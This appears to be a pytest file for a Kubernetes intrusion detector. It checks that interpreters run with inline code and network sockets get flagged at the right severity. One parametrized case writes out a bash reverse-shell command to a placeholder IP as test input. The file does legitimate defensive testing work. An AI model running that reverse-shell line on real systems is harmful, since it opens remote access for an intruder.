# SPDX-License-Identifier: Apache-2.0
"""Interpreters with code on their command line that use the network."""

from __future__ import annotations

import pyarrow as pa
import pytest

from memir.findings.detect import detect
from memir.findings.detections.code_on_command_line import code_of
from tests.findings.real import INTRUDED, NODE, SMALL, after, brief, kind, node, on_the_node, rows_with

KIND = "code-on-command-line"


@on_the_node
def test_on_the_node() -> None:
    """The intruder's line is found; the api pod's own command, Python with sockets on its command line too, is not."""
    (row,) = kind(NODE, KIND)
    assert brief([row]) == {("high", "api-8489696577-l7df2", "api", 1215)}
    assert "is connected to payments/ledger port 7000" in row["title"]
    (own,) = rows_with(NODE, "processes", pid=895)
    assert "socket" in str(code_of(own))


@pytest.mark.parametrize(
    ("exe", "args", "severity"),
    [
        ("/usr/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/198.51.100.7/443 0>&1"], "medium"),
        ("/usr/bin/perl", ["perl", "-e", "use IO::Socket; ..."], "medium"),
        ("/usr/bin/python3.11", ["python3", "-c", "print(1)"], None),
        ("/usr/bin/curl", ["curl", "-c", "socket"], None),
    ],
)
def test_words_without_a_connection(exe: str, args: list[str], severity: str | None) -> None:
    rows = after(SMALL, KIND, "processes", {"pid": 183}, exe=exe, args=args)
    assert [row["severity"] for row in rows] == ([severity] if severity else [])


@pytest.mark.parametrize(("code", "severity"), [("import socket", "high"), ("print(1)", "low")])
def test_with_a_connection(code: str, severity: str) -> None:
    """The client of the sidecar, whose connection now goes to another pod."""
    first = {"remote_kind": "pod", "remote_name": "a/b"}
    rows = after(SMALL, KIND, "sockets", {"pid": 152}, remote_kind="pod")
    assert rows == []  # the client is no interpreter
    tables_with = {"exe": "/usr/bin/python3", "args": ["python3", "-c", code]}
    tables, facts = node(SMALL)
    sockets = [{**row, **(first if row["pid"] == 152 else {})} for row in tables["sockets"].to_pylist()]
    processes = [{**row, **(tables_with if row["pid"] == 152 else {})} for row in tables["processes"].to_pylist()]
    changed = {
        **tables,
        "sockets": pa.Table.from_pylist(sockets, schema=tables["sockets"].schema),
        "processes": pa.Table.from_pylist(processes, schema=tables["processes"].schema),
    }
    assert [row["severity"] for row in detect(changed, facts).rows() if row["kind"] == KIND] == [severity]


def test_code_of() -> None:
    row = {"exe": "/usr/bin/python3.11", "args": ["python3", "-u", "-c", "code"]}
    assert code_of(row) == "code"
    assert code_of({**row, "args": ["python3", "script.py", "-c", "x"]}) is None
    assert code_of({**row, "args": None}) is None
    assert code_of({**row, "exe": "/app/server"}) is None


def test_not_there() -> None:
    """A shell of a pod's own spec, and shells with code that has nothing to do with networks."""
    assert kind(SMALL, KIND) == kind(INTRUDED, KIND) == []
